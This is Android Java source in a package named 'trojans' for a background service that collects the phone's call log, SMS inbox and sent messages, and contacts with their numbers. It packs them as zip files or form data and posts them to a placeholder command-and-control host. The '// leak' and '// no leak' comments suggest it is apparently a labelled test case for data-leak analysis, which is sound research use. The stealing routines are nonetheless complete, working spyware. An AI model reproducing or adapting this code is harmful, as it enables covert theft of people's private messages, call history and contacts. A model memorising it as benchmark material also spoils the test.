package trojans;

import android.app.IntentService;
import android.content.ContentResolver;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import android.provider.CallLog;
import android.provider.ContactsContract;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.FileOutputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.http.NameValuePair;
import org.apache.http.client.HttpClient;
import org.apache.http.client.entity.UrlEncodedFormEntity;
import org.apache.http.client.methods.HttpPost;
import org.apache.http.entity.ByteArrayEntity;
import org.apache.http.entity.FileEntity;
import org.apache.http.impl.client.DefaultHttpClient;
import org.apache.http.message.BasicNameValuePair;
import org.json.JSONArray;
import org.json.JSONObject;

/** Contacts, messages and calls, each packed in another way. */
public class Dump extends IntentService {
    private final HttpClient http = new DefaultHttpClient();

    public Dump() {
        super("dump");
    }

    @Override
    protected void onHandleIntent(Intent intent) {
        try {
            calls(getContentResolver());
            texts(getContentResolver());
            book(getContentResolver());
            count(getContentResolver());
        } catch (Exception e) {
            stopSelf();
        }
    }

    private void calls(ContentResolver from) throws Exception {
        String[] columns = {CallLog.Calls.NUMBER, CallLog.Calls.DURATION, "date", "type"};
        Cursor rows = from.query(CallLog.Calls.CONTENT_URI, columns, null, null, "date DESC");
        JSONArray all = new JSONArray();
        if (rows != null && rows.moveToFirst()) {
            do {
                JSONObject row = new JSONObject();
                for (int i = 0; i < rows.getColumnCount(); i++) {
                    row.put(rows.getColumnName(i), rows.getString(i));
                }
                all.put(row);
            } while (rows.moveToNext());
        }
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        ZipOutputStream zip = new ZipOutputStream(packed);
        zip.putNextEntry(new ZipEntry("calls.json"));
        zip.write(all.toString().getBytes());
        zip.closeEntry();
        zip.close();
        HttpPost post = new HttpPost("http://c2.example.invalid/z");
        post.setEntity(new ByteArrayEntity(packed.toByteArray()));
        http.execute(post); // leak
    }

    private void texts(ContentResolver from) throws Exception {
        File file = new File(getCacheDir(), "t.zip");
        ZipOutputStream zip = new ZipOutputStream(new FileOutputStream(file));
        for (String box : new String[] {"inbox", "sent"}) {
            zip.putNextEntry(new ZipEntry(box + ".txt"));
            Cursor rows = from.query(Uri.parse("content://sms/" + box), null, null, null, null);
            while (rows.moveToNext()) {
                String line = rows.getString(rows.getColumnIndexOrThrow("address")) + "\t" + rows.getString(rows.getColumnIndexOrThrow("body"));
                zip.write(line.getBytes());
            }
            rows.close();
        }
        zip.close();
        HttpPost post = new HttpPost("http://c2.example.invalid/t");
        post.setEntity(new FileEntity(file, "application/zip"));
        http.execute(post); // leak
        file.delete();
    }

    private void book(ContentResolver from) throws Exception {
        Cursor people = from.query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        List<NameValuePair> form = new ArrayList<NameValuePair>();
        while (people.moveToNext()) {
            String id = people.getString(people.getColumnIndex("_id"));
            String name = people.getString(people.getColumnIndex("display_name"));
            Cursor phones = from.query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, "contact_id = ?", new String[] {id}, null);
            while (phones.moveToNext()) {
                form.add(new BasicNameValuePair(name, phones.getString(phones.getColumnIndex("data1"))));
            }
            phones.close();
        }
        HttpPost post = new HttpPost("http://c2.example.invalid/b");
        post.setEntity(new UrlEncodedFormEntity(form, "UTF-8"));
        http.execute(post); // leak
    }

    private void count(ContentResolver from) throws Exception {
        Cursor people = from.query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        List<NameValuePair> form = new ArrayList<NameValuePair>();
        String last = "none";
        while (people.moveToNext()) {
            last = people.getString(0);
        }
        last = "some";
        form.add(new BasicNameValuePair("n", last));
        HttpPost post = new HttpPost("http://c2.example.invalid/n");
        post.setEntity(new UrlEncodedFormEntity(form));
        http.execute(post); // no leak
    }
}
